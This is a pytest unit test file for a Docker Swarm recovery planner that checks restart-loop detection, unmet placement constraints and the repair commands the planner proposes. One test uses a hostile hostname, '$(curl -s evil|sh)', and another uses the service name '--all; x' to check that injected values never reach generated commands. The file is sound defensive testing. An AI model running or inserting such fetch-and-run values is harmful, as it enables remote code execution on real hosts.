"""Services that restart or wait: the error whole, the log, and the constraint that nobody meets."""

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from recovery.planning.findings.constraints import is_met, unmet
from recovery.planning.findings.services import loops
from recovery.swarm.evidence import Ended, Failure, NodeSeen, ServiceSeen, SwarmSeen
from recovery.swarm.found import SwarmFacts
from recovery.swarm.model import Survey
from tests.unit.planning.findings.looks import HEALTHY, look, named, only

LONG = "task: non-zero exit (3): " + "no such table " * 40


def node(name: str, **attributes: str) -> NodeSeen:
    told = {"node.hostname": name, "availability": "active", "state": "ready", "node.role": "worker"}
    return NodeSeen(f"id-{name}", name, {**told, **{key.replace("_", "."): value for key, value in attributes.items()}})


NODES = (
    node("worker-1", node_labels_disk="hdd", node_ip="10.77.1.21"),
    node("worker-2", node_labels_zone="b", node_ip="10.77.2.22"),
    replace(
        node("manager-a"), attributes={**node("manager-a", node_labels_disk="ssd").attributes, "availability": "drain"}
    ),
)


def failures(*ages: float, error: str = LONG) -> tuple[Failure, ...]:
    return tuple(Failure(f"t{age}", error, age, "id-worker-1", "c1") for age in ages)


WEB = ServiceSeen("1", "web", 3, rolls_back=True, failures=failures(5, 15, 25))


def seen(service: ServiceSeen) -> SwarmSeen:
    return SwarmSeen((service,), NODES)


def test_a_loop_is_told_with_its_whole_error_and_its_log() -> None:
    ended = (Ended("c1", "web", ("begins", "no such table users")), Ended("c2", "api", ("fine",)))
    found = only(look("manager-a", swarm=seen(WEB)), look("worker-1", ended_tasks=ended))
    assert found.name == "restart-loop@web"
    assert (
        found.trouble
        == "service web restarts again and again: 3 tasks failed in 10 minutes on worker-1, the last one 5 s ago"
    )
    assert found.evidence == (LONG, "its log: begins", "its log: no such table users")
    assert [one.runs[0].text for one in found.proposals[:2]] == [
        "docker service rollback --detach web",
        "docker service scale --detach web=0",
    ]
    assert found.fix is found.proposals[0]


@pytest.mark.parametrize(
    "ages",
    [(5, 15), (5, 700, 800), (), (60, 65, 70)],
    ids=["twice", "once today", "never", "it ended a minute ago"],
)
def test_a_few_failures_are_no_loop(ages: tuple[float, ...]) -> None:
    assert named(look("manager-a", swarm=seen(replace(WEB, failures=failures(*ages))))) == []


def test_a_slow_loop_is_one() -> None:
    assert named(look("manager-a", swarm=seen(replace(WEB, failures=failures(170, 350, 530))))) == ["restart-loop@web"]


def test_a_global_service_that_never_was_updated_is_left_to_a_person() -> None:
    service = replace(WEB, replicas=0, rolls_back=False)
    assert only(look("manager-a", swarm=seen(service))).fix is None


def test_a_service_with_no_name_of_an_engine_is_nothing() -> None:
    assert named(look("manager-a", swarm=seen(replace(WEB, name="--all; x")))) == []


def crashed(*slots: tuple[int, str]) -> tuple[Failure, ...]:
    """Failures a second ago, each of one replica on one node."""
    return tuple(Failure(f"t{n}", LONG, 1.0, node, "c1", slot) for n, (slot, node) in enumerate(slots))


@pytest.mark.parametrize(
    ("failed", "most", "told"),
    [
        (crashed((1, "a"), (2, "a"), (3, "a")), 5, False),
        (crashed((0, "a"), (0, "b"), (0, "c")), 5, False),
        (crashed((1, "a"), (1, "a"), (2, "b")), 5, True),
        (crashed((0, "a"), (0, "a"), (0, "b")), 5, True),
        (crashed((1, "a"), (2, "a"), (3, "a")), 2, True),
    ],
    ids=["a node with three replicas", "three nodes", "one twice", "one of a global service twice", "only one is kept"],
)
def test_replicas_that_each_failed_once_are_no_loop(failed: tuple[Failure, ...], most: int, told: bool) -> None:
    """As after the restart of a node. A swarm that keeps one failed task of each replica cannot tell."""
    assert loops(replace(WEB, failures=failed), most) is told


DAY = 86_400.0
FULL = "failed to create task: write /var/lib/docker/tmp: no space left on device"


@pytest.mark.parametrize(
    ("service", "commands"),
    [
        (WEB, ["rollback", "scale", "repair"]),
        (replace(WEB, runs_on=("id-worker-2",)), ["rollback", "repair", "scale"]),
        (replace(WEB, rolls_back=False), ["scale", "repair"]),
        (replace(WEB, rolls_back=False, runs_on=("id-worker-2",)), ["repair", "scale"]),
        (replace(WEB, since_update=2 * DAY), ["repair", "scale", "rollback"]),
        (replace(WEB, failures=failures(5, 15, 25, error=FULL)), ["make", "scale", "rollback"]),
    ],
    ids=[
        "after an update", "other tasks run", "never updated", "never updated, and other tasks run", "an old update",
        "a full disk",
    ],
)  # fmt: skip
def test_a_loop_is_laid_to_the_last_update_only_if_it_may_be_the_cause(
    service: ServiceSeen, commands: list[str]
) -> None:
    """A rollback to what ran a month ago does not repair a disk, and tasks that run are not stopped unasked."""
    found = only(look("manager-a", swarm=seen(service)))
    words = [one.command.removeprefix("on manager-a: docker service ").split()[0] for one in found.proposals]
    assert words == commands
    assert (found.fix is None) is (commands[0] in ("repair", "make"))
    if "full" in found.proposals[0].command:
        assert "worker-1" in found.proposals[0].command


def waiting(*constraints: str) -> ServiceSeen:
    return ServiceSeen(
        "1", "web", 1, constraints, waits=("no suitable node (scheduling constraints not satisfied on 5 nodes)",)
    )


def test_the_constraint_that_nobody_meets_is_named_and_taken_off() -> None:
    found = only(look("manager-a", swarm=seen(waiting("node.labels.disk == ssd", "node.role==worker"))))
    assert found.name == "unplaced@web"
    assert found.trouble.endswith("no node that is Ready and active meets node.labels.disk == ssd")
    remove, label, other = found.proposals
    assert other.command.endswith("disk=ssd id-worker-2")
    assert remove.runs[0].text == "docker service update --detach --constraint-rm 'node.labels.disk == ssd' web"
    assert label.command == "on manager-a: docker node update --label-add disk=ssd id-worker-1"
    assert label.effect == "lets worker-1 run it. Add the label in the stack file too"
    assert not label.runs


AWAY = replace(NODES[0], attributes={**NODES[0].attributes, "state": "down"})
PAUSED = replace(NODES[0], attributes={**NODES[0].attributes, "availability": "pause"})
DRAINED = replace(NODES[0], attributes={**NODES[0].attributes, "availability": "drain"})


@pytest.mark.parametrize(
    ("pinned", "told", "command"),
    [
        (AWAY, "worker-1 is down", "bring worker-1 back"),
        (DRAINED, "worker-1 is drained", "on manager-a: docker node update --availability active id-worker-1"),
        (PAUSED, "worker-1 is paused", "on manager-a: docker node update --availability active id-worker-1"),
        (replace(DRAINED, node="id-nobody"), "id-nobody is drained", "bring id-nobody back"),
    ],
    ids=["down", "drained by hand", "paused", "not in the settings"],
)
def test_a_service_whose_node_is_away_is_started_nowhere_else(pinned: NodeSeen, told: str, command: str) -> None:
    service = waiting("node.hostname==worker-1", "node.labels.disk==hdd")
    found = only(look("manager-a", swarm=SwarmSeen((service,), (pinned, *NODES[1:]))))
    assert found.trouble.endswith(f"only nodes that take no tasks meet its constraints: {told}")
    assert [one.command for one in found.proposals] == [command]
    assert not any(one.runs for one in found.proposals)


def labelled(**labels: str) -> Survey:
    """The healthy survey, in which worker-1 has labels."""
    given = {key.replace("_", "."): value for key, value in labels.items()}
    listed = (replace(m, labels=given) if m.node_id == "id-worker-1" else m for m in HEALTHY.reports[0].members)
    return replace(HEALTHY, reports=(replace(HEALTHY.reports[0], members=tuple(listed)), *HEALTHY.reports[1:]))


@pytest.mark.parametrize(
    ("survey", "command", "able"),
    [
        (labelled(requorum_maintenance="active"), "requorum undrain worker-1", True),
        (
            labelled(requorum_availability="active", requorum_walk="upgrade begun 1 drained"),
            "wait for the run that drained worker-1 (upgrade). If none runs, run the same command again",
            False,
        ),
        (labelled(), "on manager-a: docker node update --availability active id-worker-1", False),
    ],
    ids=["in maintenance", "of a walk", "by hand"],
)
def test_a_drained_node_is_given_back_by_whoever_drained_it(survey: Survey, command: str, able: bool) -> None:
    """`requorum undrain` changes nothing on a node that it did not drain, and a walk gives its nodes back itself."""
    found = only(look("manager-a", swarm=SwarmSeen((waiting("node.labels.disk==hdd"),), (DRAINED,))), survey=survey)
    assert [one.command for one in found.proposals] == [command]
    assert bool(found.fix) is able


def test_a_service_that_waits_because_every_node_is_away_is_not_to_be_changed() -> None:
    down = tuple(replace(one, attributes={**one.attributes, "state": "down"}) for one in NODES[:2])
    found = only(look("manager-a", swarm=SwarmSeen((waiting(),), (*down, NODES[2]))))
    assert found.trouble.endswith("no node takes tasks: worker-1 is down, worker-2 is down")
    assert [one.command for one in found.proposals] == ["bring worker-1 back", "bring worker-2 back"]


def test_a_service_that_has_no_room_on_the_nodes_that_are_left_names_those_that_are_away() -> None:
    """As with at most one task on each node."""
    service = replace(waiting(), waits=("no suitable node (max replicas per node limit exceed; 1 node not available)",))
    found = only(look("manager-a", swarm=SwarmSeen((service,), (AWAY, *NODES[1:]))))
    assert found.trouble.endswith("no node that is Ready and active takes it, and worker-1 is down")
    assert [one.command.split()[0] for one in found.proposals] == ["bring", "give"]
    no_network = replace(service, waits=("the swarm gives it no network, address or port",))
    found = only(look("manager-a", swarm=SwarmSeen((no_network,), (AWAY, *NODES[1:]))))
    assert [one.command.split()[0] for one in found.proposals] == ["give"]


def test_a_service_whose_place_is_away_is_started_nowhere_else_though_the_swarm_tells_no_reason() -> None:
    service = replace(waiting("node.labels.disk==hdd"), waits=("no reason is told",))
    found = only(look("manager-a", swarm=SwarmSeen((service,), (AWAY, *NODES[1:]))))
    assert [one.command for one in found.proposals] == ["bring worker-1 back"]


def test_of_many_nodes_that_are_away_a_few_are_named() -> None:
    many = tuple(replace(AWAY, node=f"id-{n}") for n in range(30))
    found = only(look("manager-a", swarm=SwarmSeen((waiting("node.labels.disk==hdd"),), many)))
    assert found.trouble.endswith("id-0 is down, id-1 is down, id-2 is down and 27 more")
    assert len(found.proposals) == 3


def test_a_host_name_never_becomes_a_part_of_a_command() -> None:
    hostile = replace(NODES[0], hostname="$(curl -s evil|sh)")
    found = only(look("manager-a", swarm=SwarmSeen((waiting("node.labels.a==x"),), (hostile,))))
    assert "evil" not in str(found)


@pytest.mark.parametrize(("most", "count", "told"), [(5, 3, True), (5, 2, False), (3, 2, True), (1, 1, False)])
def test_where_the_swarm_keeps_few_tasks_fewer_failures_are_a_loop(most: int, count: int, told: bool) -> None:
    facts = SwarmFacts({"Orchestration": {"TaskHistoryRetentionLimit": most}})
    leads = replace(HEALTHY.reports[0], swarm=facts)
    survey = replace(HEALTHY, reports=(leads, *HEALTHY.reports[1:]))
    service = replace(WEB, failures=failures(*(5.0 * n for n in range(1, count + 1))))
    assert bool(named(look("manager-a", swarm=seen(service)), survey=survey)) is told


def test_constraints_that_no_node_meets_together_are_told() -> None:
    found = only(look("manager-a", swarm=seen(waiting("node.labels.disk==hdd", "node.labels.zone==b"))))
    assert "no node meets all of" in found.trouble
    assert found.fix is None


def test_a_service_that_no_node_has_room_for_is_left_to_a_person() -> None:
    service = replace(waiting(), waits=("no suitable node (insufficient resources on 2 nodes)",))
    found = only(look("manager-a", swarm=seen(service)))
    assert found.evidence == service.waits
    assert found.fix is None


@pytest.mark.parametrize(
    ("constraint", "met"),
    [
        ("node.labels.disk==hdd", True), ("node.labels.disk!=hdd", False), ("node.labels.disk == HDD", True),
        ("node.labels.none==x", False), ("node.labels.none!=x", True), ("node.hostname==worker-1", True),
        ("node.ip==10.77.1.0/24", True), ("node.ip==10.77.2.22", False), ("node.ip==nonsense", False), ("???", True),
    ],
)  # fmt: skip
def test_a_constraint_is_read_as_the_swarm_reads_it(constraint: str, met: bool) -> None:
    assert is_met(constraint, NODES[0]) is met


@given(st.lists(st.text(max_size=30), max_size=4))
def test_whatever_is_lacking_is_one_of_the_constraints(constraints: list[str]) -> None:
    lacking, apart = unmet(constraints, NODES)
    assert {*lacking} <= {*constraints}
    assert apart or not lacking
